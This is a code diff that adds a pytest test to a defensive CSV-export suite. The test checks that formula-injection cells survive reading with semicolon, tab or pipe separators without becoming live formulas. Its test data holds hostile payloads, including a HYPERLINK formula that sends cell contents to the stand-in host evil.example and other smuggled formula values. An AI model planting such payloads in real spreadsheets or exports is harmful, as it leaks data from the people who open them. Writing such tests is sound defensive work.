@@ -129,3 +129,26 @@ def test_every_document_is_made_through_the_safe_helpers():
         if direct.search(line)
     ]
     assert offenders == []
+
+
+@pytest.mark.parametrize("separator", [";", "\t", "|"])
+def test_a_spreadsheet_reading_another_separator_finds_no_formula_inside_a_cell(separator):
+    """A spreadsheet set to a semicolon (Excel in Spanish) or a tab cuts a bare cell at it:
+    the attacker hides the formula after the separator, where safe_cell() does not look."""
+    hostile = [
+        f'Downtown{separator}=HYPERLINK("http://evil.example/?"&A1)',
+        f"Downtown{separator} @SUM(A1)",
+        f'Lot 7"{separator}=1+1',
+        f"a{separator}'+cmd",
+    ]
+    out = io.StringIO()
+    csv_writer(out).writerows([[text, 3] for text in hostile])
+    cells = [
+        cell for row in csv.reader(io.StringIO(out.getvalue()), delimiter=separator) for cell in row
+    ]
+    assert cells, "nothing was read back"
+    formulas = [cell for cell in cells if safe_cell(cell) != cell and not cell.startswith("'")]
+    assert formulas == []
+    # Read with the comma it was written with, every cell is the text it was.
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert rows == [[text, "3"] for text in hostile]
